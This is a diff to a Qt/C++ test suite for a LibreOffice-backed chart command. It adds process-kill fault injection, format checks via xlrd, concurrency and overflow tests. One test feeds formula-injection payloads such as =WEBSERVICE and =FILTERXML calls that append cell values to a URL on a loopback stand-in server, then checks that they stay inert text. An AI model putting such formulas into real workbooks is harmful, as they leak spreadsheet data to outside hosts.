@@ -8,6 +8,7 @@
 #include "chart/engineprocess.h"
 #include "chart/libreofficeserver.h"
 #include "entries/entrycodec.h"
+#include "entries/numerictest.h"
 #include "entries/sampleentries.h"
 #include "preview/form2.h"
 #include "preview/picturebox.h"
@@ -15,7 +16,10 @@
 #include "shell/pushbutton.h"
 #include "shell/settingsstore.h"
 
+#include <QApplication>
 #include <QClipboard>
+#include <QElapsedTimer>
+#include <QTemporaryDir>
 #include <QDir>
 #include <QGuiApplication>
 #include <QFile>
@@ -26,6 +30,12 @@
 
 #include <algorithm>
 #include <csignal>
+#include <arpa/inet.h>
+#include <netinet/in.h>
+#include <poll.h>
+#include <sys/socket.h>
+#include <unistd.h>
+#include <cstdio>
 
 namespace {
 
@@ -179,6 +189,224 @@ QSize whiteMargins(const QImage &picture)
     return {right, bottom};
 }
 
+// The phases of one chart at which the engine instance is upset.
+enum class Phase { Opening, Filling, Saving, BetweenInstances, Rendering, Quitting };
+
+// The product's engine, with one instance sent a signal (SIGKILL, SIGSTOP) the
+// moment the command reaches the phase; every call is passed on unchanged.
+class UpsettingServer : public SpreadsheetServer
+{
+public:
+    UpsettingServer(LibreOfficeServer &inner, Phase phase, int signal)
+        : mInner(inner), mPhase(phase), mSignal(signal) {}
+
+    void reached(Phase phase, qint64 pid)
+    {
+        if (phase != mPhase || mDone || pid <= 0)
+            return;
+        mDone = true;
+        ::kill(pid_t(pid), mSignal);
+        // Let a killed instance be gone before the call goes to it.
+        QTest::qWait(50);
+    }
+    bool upset() const { return mDone; }
+
+    std::unique_ptr<Application> create() override;
+    std::unique_ptr<Application> getRunning() override { return mInner.getRunning(); }
+    QString expectedProductName() const override { return mInner.expectedProductName(); }
+    void startAheadOfNeed() override
+    {
+        const QList<qint64> before = EngineProcess::startedPids();
+        mInner.startAheadOfNeed();
+        for (qint64 pid : EngineProcess::startedPids())
+            if (!before.contains(pid))
+                mAhead = pid;
+    }
+    void dropStartedAhead() override { mInner.dropStartedAhead(); }
+
+private:
+    LibreOfficeServer &mInner;
+    Phase mPhase;
+    int mSignal;
+    bool mDone = false;
+    int mCreated = 0;
+    qint64 mAhead = 0;
+};
+
+class UpsettingSheet : public Worksheet
+{
+public:
+    UpsettingSheet(UpsettingServer &server, qint64 pid, std::shared_ptr<Worksheet> inner)
+        : mServer(server), mPid(pid), mInner(std::move(inner)) {}
+    QString name() override { return mInner->name(); }
+    void setCellText(int r, int c, const QString &t) override { mInner->setCellText(r, c, t); }
+    void setCellValue(int r, int c, const QString &t) override { mInner->setCellValue(r, c, t); }
+    void setCellNumberFormat(int r, int c, const QString &f) override { mInner->setCellNumberFormat(r, c, f); }
+    void setTextAndAmountRows(int first, int column, const QList<TextAndAmount> &rows) override
+    {
+        mServer.reached(Phase::Filling, mPid);
+        mInner->setTextAndAmountRows(first, column, rows);
+    }
+    void setRangeNumberFormat(int first, int last, int column, const QString &format) override
+    {
+        mInner->setRangeNumberFormat(first, last, column, format);
+    }
+    QVariant cellValue(int r, int c) override { return mInner->cellValue(r, c); }
+    QString cellNumberFormat(int r, int c) override { return mInner->cellNumberFormat(r, c); }
+    QImage usedRangePicture() override
+    {
+        mServer.reached(Phase::Rendering, mPid);
+        return mInner->usedRangePicture();
+    }
+
+private:
+    UpsettingServer &mServer;
+    qint64 mPid;
+    std::shared_ptr<Worksheet> mInner;
+};
+
+class UpsettingWorkbook : public Workbook
+{
+public:
+    UpsettingWorkbook(UpsettingServer &server, qint64 pid, std::shared_ptr<Workbook> inner)
+        : mServer(server), mPid(pid), mInner(std::move(inner)) {}
+    std::shared_ptr<Worksheet> activeSheet() override
+    {
+        return std::make_shared<UpsettingSheet>(mServer, mPid, mInner->activeSheet());
+    }
+    void saveAs(const QString &path) override
+    {
+        mServer.reached(Phase::Saving, mPid);
+        mInner->saveAs(path);
+    }
+    void close() override { mInner->close(); }
+
+private:
+    UpsettingServer &mServer;
+    qint64 mPid;
+    std::shared_ptr<Workbook> mInner;
+};
+
+class UpsettingApplication : public Application, private Workbooks
+{
+public:
+    UpsettingApplication(UpsettingServer &server, std::unique_ptr<Application> inner, bool first)
+        : mServer(server), mInner(std::move(inner)), mPid(EngineProcessId(*mInner)), mFirst(first) {}
+    QString defaultValue() override { return mInner->defaultValue(); }
+    Workbooks &workbooks() override { return *this; }
+    void setDisplayAlerts(bool on) override { mInner->setDisplayAlerts(on); }
+    void quit() override
+    {
+        if (mFirst)
+            mServer.reached(Phase::Quitting, mPid);
+        mInner->quit();
+    }
+
+private:
+    std::shared_ptr<Workbook> open(const QString &path) override
+    {
+        if (mFirst)
+            mServer.reached(Phase::Opening, mPid);
+        return wrap(mInner->workbooks().open(path));
+    }
+    int count() override { return mInner->workbooks().count(); }
+    std::shared_ptr<Workbook> item(int index) override { return wrap(mInner->workbooks().item(index)); }
+    std::shared_ptr<Workbook> wrap(std::shared_ptr<Workbook> book)
+    {
+        return std::make_shared<UpsettingWorkbook>(mServer, mPid, std::move(book));
+    }
+
+    UpsettingServer &mServer;
+    std::unique_ptr<Application> mInner;
+    qint64 mPid;
+    bool mFirst;
+};
+
+std::unique_ptr<Application> UpsettingServer::create()
+{
+    // The instance started ahead of need, upset while the first one winds down.
+    if (++mCreated == 2)
+        reached(Phase::BetweenInstances, mAhead);
+    return std::make_unique<UpsettingApplication>(*this, mInner.create(), mCreated == 1);
+}
+
+// Debian's xlrd, a reader independent of the engine that evaluates nothing:
+// for each of the rows, the type and value of columns A and B, then the
+// number format of column B, tab-separated.
+QString xlrd(const QString &workbook, int firstRow, int lastRow)
+{
+    static const char script[] = R"(
+import sys, xlrd
+book = xlrd.open_workbook(sys.argv[1], formatting_info=True)
+sheet = book.sheet_by_index(0)
+kinds = {xlrd.XL_CELL_TEXT: 'text', xlrd.XL_CELL_NUMBER: 'number', xlrd.XL_CELL_EMPTY: 'empty',
+         xlrd.XL_CELL_BLANK: 'empty'}
+for row in range(int(sys.argv[2]) - 1, int(sys.argv[3])):
+    fields = []
+    for column in (0, 1):
+        cell = sheet.cell(row, column)
+        fields += [kinds.get(cell.ctype, 'other %d' % cell.ctype), cell.value if cell.ctype != xlrd.XL_CELL_NUMBER else repr(cell.value)]
+    fields.append(book.format_map[book.xf_list[sheet.cell(row, 1).xf_index].format_key].format_str)
+    print('\t'.join(str(f) for f in fields))
+)";
+    QProcess process;
+    // The system's interpreter, where Debian's module is.
+    process.start(QStringLiteral("/usr/bin/python3"),
+                  {QStringLiteral("-c"), QString::fromLatin1(script), workbook, QString::number(firstRow),
+                   QString::number(lastRow)});
+    if (!process.waitForFinished(60000) || process.exitCode() != 0)
+        return QStringLiteral("xlrd failed: ") + QString::fromLocal8Bit(process.readAllStandardError());
+    return QString::fromUtf8(process.readAllStandardOutput());
+}
+
+// A listening socket on 127.0.0.1: the kernel queues any connection to it
+// while the test is busy in the command, to be found afterwards.
+class LoopbackListener
+{
+public:
+    LoopbackListener()
+    {
+        mFd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+        sockaddr_in address {};
+        address.sin_family = AF_INET;
+        address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+        socklen_t length = sizeof address;
+        if (mFd >= 0 && ::bind(mFd, reinterpret_cast<sockaddr *>(&address), sizeof address) == 0
+            && ::listen(mFd, 16) == 0 && ::getsockname(mFd, reinterpret_cast<sockaddr *>(&address), &length) == 0)
+            mPort = ntohs(address.sin_port);
+    }
+    ~LoopbackListener() { ::close(mFd); }
+    int port() const { return mPort; }
+    bool wasReached() const
+    {
+        pollfd waiting {mFd, POLLIN, 0};
+        return ::poll(&waiting, 1, 500) > 0;
+    }
+
+private:
+    int mFd = -1;
+    int mPort = 0;
+};
+
+// Set in the environment of a copy of this program that stands for a second
+// copy of Quintarra: it makes one chart and says what it got.
+constexpr char kSecondCopy[] = "QUINTARRA_TEST_SECOND_COPY";
+
+int runAsSecondCopy(int argc, char **argv)
+{
+    QApplication application(argc, argv);
+    // The folders are the ones the first copy gave it.
+    QStringList trail;
+    LibreOfficeServer server;
+    server.setTypingLocale(QLocale(QLocale::English, QLocale::UnitedStates));
+    FakeChartHost host(&trail);
+    host.entries = entries(2);
+    ProceedingPrompts prompts;
+    ChartCommand(prompts, server).run(host);
+    std::printf("reports %d\n%s\n", int(prompts.errorReports().size()), qPrintable(host.workbook));
+    return 0;
+}
+
 } // namespace
 
 class TestChartCommandEngine : public QObject
@@ -194,6 +422,12 @@ private slots:
     void longListPicture();
     void failingStepGoesOn();
     void mainWindowButton();
+    void engineUpset_data();
+    void engineUpset();
+    void hostileInputStaysText();
+    void twoCopiesShareAFolder_data();
+    void twoCopiesShareAFolder();
+    void amountsTooLargeToTotal();
     void cleanupTestCase();
 };
 
@@ -295,11 +529,20 @@ void TestChartCommandEngine::endToEnd()
     QVERIFY(gnumeric.contains(QLatin1String("Assets!$B$4:$B$9")));
     QVERIFY(gnumeric.contains(QLatin1String("Assets!$A$4:$A$9")));
 
+    // Every written amount carries exactly the format of the template's own
+    // formatted cells, locale prefix and all, as another reader sees it.
+    const QString templateCopy = click.env.root() + QStringLiteral("/template.xlt");
+    QVERIFY(QFile::copy(kTemplateResource, templateCopy));
+    const QString templateFormat = xlrd(templateCopy, 7, 7).trimmed().section(QLatin1Char('\t'), 4);
+    QVERIFY2(templateFormat.startsWith(QLatin1String("_(")), qPrintable(templateFormat));
+    const QStringList written = xlrd(book, 4, rows + 3).split(QLatin1Char('\n'), Qt::SkipEmptyParts);
+    QCOMPARE(written.size(), rows);
+    for (const QString &line : written)
+        QCOMPARE(line.section(QLatin1Char('\t'), 4), templateFormat);
+
     QCOMPARE(ourEngines(), QStringList{});
 }
 
-// A picture that cannot be written: the report names the step, and the command
-// still stores the list and opens the preview of the saved workbook.
 void TestChartCommandEngine::pictureEdges_data()
 {
     QTest::addColumn<int>("rows");
@@ -349,6 +592,8 @@ void TestChartCommandEngine::longListPicture()
     QVERIFY(whiteMargins(bottom).height() < 20);
 }
 
+// A picture name that cannot be written (a folder is in the way): one report,
+// and nothing of the run is left, the saved workbook included.
 void TestChartCommandEngine::failingStepGoesOn()
 {
     EngineClick click(entries(2));
@@ -359,12 +604,12 @@ void TestChartCommandEngine::failingStepGoesOn()
     QStringList steps;
     for (const QString &report : click.prompts.errorReports())
         steps << line.match(report).captured(1);
-    QCOMPARE(steps, (QStringList{"184", "194", "202"}));
+    QCOMPARE(steps, (QStringList{"184"}));
     QVERIFY(click.host.picture.isNull());
-    QVERIFY(click.host.previewShown);
-    QVERIFY(QFileInfo::exists(click.host.workbook));
-    QVERIFY(!QFileInfo::exists(click.temp(QStringLiteral("Pie Chart.xlt"))));
-    QVERIFY(!GetSetting(kSettingsApp, kSettingsSection, QStringLiteral("Assets"), QString()).isEmpty());
+    QVERIFY(!click.host.previewShown);
+    QCOMPARE(click.tempFiles(), QStringList{});
+    QVERIFY(QFileInfo(click.temp(QStringLiteral("temp.bmp"))).isDir());
+    QCOMPARE(GetSetting(kSettingsApp, kSettingsSection, QStringLiteral("Assets"), QString()), QString());
     QCOMPARE(ourEngines(), QStringList{});
 }
 
@@ -410,10 +655,188 @@ void TestChartCommandEngine::mainWindowButton()
     QCOMPARE(ended, 0);
 }
 
+Q_DECLARE_METATYPE(Phase)
+
+// The engine instance killed or stopped at each phase of the command: at most
+// one report, no wait beyond the watchdog, no engine and no file of ours left
+// but the workbook a shown preview owns, and the next click works.
+void TestChartCommandEngine::engineUpset_data()
+{
+    QTest::addColumn<Phase>("phase");
+    QTest::addColumn<int>("signal");
+    const QList<std::pair<const char *, Phase>> phases = {
+            {"opening", Phase::Opening}, {"filling", Phase::Filling},
+            {"saving", Phase::Saving}, {"between the instances", Phase::BetweenInstances},
+            {"rendering", Phase::Rendering}, {"quitting", Phase::Quitting}};
+    for (const auto &[name, phase] : phases) {
+        QTest::addRow("killed %s", name) << phase << SIGKILL;
+        QTest::addRow("stopped %s", name) << phase << SIGSTOP;
+    }
+}
+
+void TestChartCommandEngine::engineUpset()
+{
+    QFETCH(Phase, phase);
+    QFETCH(int, signal);
+    // Short, so that a stopped instance is given up soon; long enough for any
+    // call a loaded machine makes before the upset.
+    constexpr auto kWatchdog = std::chrono::milliseconds(4000);
+
+    EngineClick click(entries(3));
+    click.server.setCallTimeout(kWatchdog);
+    UpsettingServer upsetting(click.server, phase, signal);
+    QElapsedTimer clock;
+    clock.start();
+    ChartCommand(click.prompts, upsetting).run(click.host);
+    const qint64 took = clock.elapsed();
+
+    QVERIFY(upsetting.upset());
+    const QStringList reports = click.prompts.errorReports();
+    QVERIFY2(reports.size() <= 1, qPrintable(reports.join(QStringLiteral("\n---\n"))));
+    for (const QString &report : reports) {
+        QVERIFY2(!report.contains(QLatin1String("is installed")), qPrintable(report));
+        QVERIFY2(report.startsWith(signal == SIGKILL ? QLatin1String("LibreOffice stopped unexpectedly")
+                                                     : QLatin1String("LibreOffice did not answer")),
+                 qPrintable(report));
+    }
+    // Each wait ends at the watchdog: at most one wait, plus the chart's own work.
+    QVERIFY2(took < 2 * kWatchdog.count() + 10000, qPrintable(QString::number(took)));
+    QCOMPARE(ourEngines(), QStringList{});
+    QCOMPARE(click.host.pointers.last(), qint16(0));
+    if (click.host.previewShown) {
+        QVERIFY(reports.isEmpty() || phase == Phase::Quitting);
+        QCOMPARE(click.tempFiles(), QStringList{QFileInfo(click.host.workbook).fileName()});
+        QVERIFY(!click.host.picture.isNull());
+        QFile::remove(click.host.workbook);
+    } else {
+        QCOMPARE(reports.size(), 1);
+        QVERIFY2(click.tempFiles().isEmpty(), qPrintable(click.tempFiles().join(u' ')));
+    }
+
+    // The next click, on the same engine adapter.
+    click.server.setCallTimeout(EngineProcess::kDefaultCallTimeout);
+    FakeChartHost next(&click.trail);
+    next.entries = entries(2);
+    click.prompts.shown.clear();
+    ChartCommand(click.prompts, click.server).run(next);
+    QCOMPARE(click.prompts.errorReports(), QStringList{});
+    QVERIFY(next.previewShown);
+    QVERIFY(!next.picture.isNull());
+    QCOMPARE(click.tempFiles(), QStringList{QFileInfo(next.workbook).fileName()});
+    QCOMPARE(ourEngines(), QStringList{});
+}
+
+// Nothing the list holds runs or reaches the network: labels are text
+// whatever they begin with, amounts numbers only when they are numbers. A
+// server on the loopback address stands for the outside world.
+void TestChartCommandEngine::hostileInputStaysText()
+{
+    LoopbackListener outside;
+    QVERIFY(outside.port() > 0);
+    const QString url = QStringLiteral("http://127.0.0.1:%1/").arg(outside.port());
+    const EntryList hostile = {
+            {QStringLiteral("=WEBSERVICE(\"%1label?\"&A5&B5)").arg(url), QStringLiteral("25000")},
+            {QStringLiteral("=HYPERLINK(\"%1link\";\"x\")").arg(url), QStringLiteral("=1+1")},
+            {QStringLiteral("=1+1"), QStringLiteral("=WEBSERVICE(\"%1amount\")").arg(url)},
+            {QStringLiteral("'quoted"), QStringLiteral("@SUM(1)")},
+            {QStringLiteral("+A4"), QStringLiteral("1e3")},
+            {url + QStringLiteral("plain"), QStringLiteral("-7")},
+            {QStringLiteral("=FILTERXML(WEBSERVICE(\"%1xml\");\"//a\")").arg(url), QStringLiteral("12abc")},
+    };
+    EngineClick click(hostile);
+    click.run();
+    QCOMPARE(click.prompts.errorReports(), QStringList{});
+    QVERIFY(click.host.previewShown);
+
+    // What the saved file holds, read by a reader that evaluates nothing.
+    QString cells = xlrd(click.host.workbook, 4, int(hostile.size()) + 3);
+    QStringList lines = cells.split(QLatin1Char('\n'), Qt::SkipEmptyParts);
+    QCOMPARE(lines.size(), hostile.size());
+    for (int i = 0; i < hostile.size(); ++i) {
+        const QStringList fields = lines.at(i).split(QLatin1Char('\t'));
+        QCOMPARE(fields.value(0), QStringLiteral("text"));
+        QCOMPARE(fields.value(1), hostile.at(i).label);
+        const bool number = IsNumeric(hostile.at(i).amount, QLocale(QLocale::English, QLocale::UnitedStates));
+        QCOMPARE(fields.value(2), number ? QStringLiteral("number") : QStringLiteral("text"));
+        if (number)
+            QCOMPARE(fields.value(3).toDouble(), QLocale(QLocale::English).toDouble(hostile.at(i).amount));
+        else
+            QCOMPARE(fields.value(3), hostile.at(i).amount);
+    }
+    QVERIFY2(!outside.wasReached(), "the engine reached the loopback server");
+    QCOMPARE(ourEngines(), QStringList{});
+}
+
+// Two copies of the program sharing one temporary folder, the second clicking
+// while the first works: both charts are made, and neither touched the other's files.
+void TestChartCommandEngine::twoCopiesShareAFolder_data()
+{
+    QTest::addColumn<int>("offsetMs");
+    QTest::newRow("together") << 0;
+    QTest::newRow("0.4 s later") << 400;
+}
+
+void TestChartCommandEngine::twoCopiesShareAFolder()
+{
+    QFETCH(int, offsetMs);
+    EngineClick click(entries(3));
+    QTemporaryDir otherConfig;
+    QProcess other;
+    QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
+    environment.insert(QStringLiteral("XDG_CONFIG_HOME"), otherConfig.path());
+    environment.insert(QStringLiteral("TEMP"), click.env.tempFolder());
+    environment.insert(QString::fromLatin1(kSecondCopy), QStringLiteral("1"));
+    other.setProcessEnvironment(environment);
+    other.start(QCoreApplication::applicationFilePath(), {});
+    QVERIFY(other.waitForStarted());
+    QTest::qWait(offsetMs);
+    click.run();
+    QVERIFY(other.waitForFinished(120000));
+
+    const QStringList said = QString::fromUtf8(other.readAllStandardOutput()).split(QLatin1Char('\n'));
+    QCOMPARE(other.exitCode(), 0);
+    QCOMPARE(said.value(0), QStringLiteral("reports 0"));
+    const QString theirs = said.value(1);
+    QCOMPARE(click.prompts.errorReports(), QStringList{});
+    QVERIFY(click.host.previewShown);
+    QVERIFY(!click.host.picture.isNull());
+    QVERIFY(theirs != click.host.workbook);
+    QStringList both = {QFileInfo(theirs).fileName(), QFileInfo(click.host.workbook).fileName()};
+    both.sort();
+    QCOMPARE(click.tempFiles(), both);
+    QCOMPARE(ourEngines(), QStringList{});
+}
+
+// Amounts each valid on its own whose total the engine cannot hold.
+void TestChartCommandEngine::amountsTooLargeToTotal()
+{
+    EngineClick click({{QStringLiteral("One"), QStringLiteral("9e307")}, {QStringLiteral("Two"), QStringLiteral("9e307")}});
+    click.run();
+    const QStringList reports = click.prompts.errorReports();
+    QCOMPARE(reports.size(), 1);
+    QVERIFY2(reports.first().startsWith(QLatin1String("LibreOffice ran out of memory while saving")),
+             qPrintable(reports.first()));
+    QVERIFY(!click.host.previewShown);
+    // The engine's own save scratch (lu*.tmp) is the engine adapter's to keep
+    // out of this folder; here: no file the command names.
+    QStringList left = click.tempFiles();
+    left.removeIf([](const QString &name) { return name.startsWith(QLatin1String("lu")) && name.endsWith(QLatin1String(".tmp")); });
+    QVERIFY2(left.isEmpty(), qPrintable(left.join(u' ')));
+    QCOMPARE(ourEngines(), QStringList{});
+}
+
 void TestChartCommandEngine::cleanupTestCase()
 {
     QCOMPARE(ourEngines(), QStringList{});
 }
 
-QTEST_MAIN(TestChartCommandEngine)
+int main(int argc, char **argv)
+{
+    if (qEnvironmentVariableIsSet(kSecondCopy))
+        return runAsSecondCopy(argc, argv);
+    QApplication application(argc, argv);
+    TestChartCommandEngine test;
+    QTEST_SET_MAIN_SOURCE_PATH
+    return QTest::qExec(&test, argc, argv);
+}
 #include "tst_chartcommand_engine.moc"
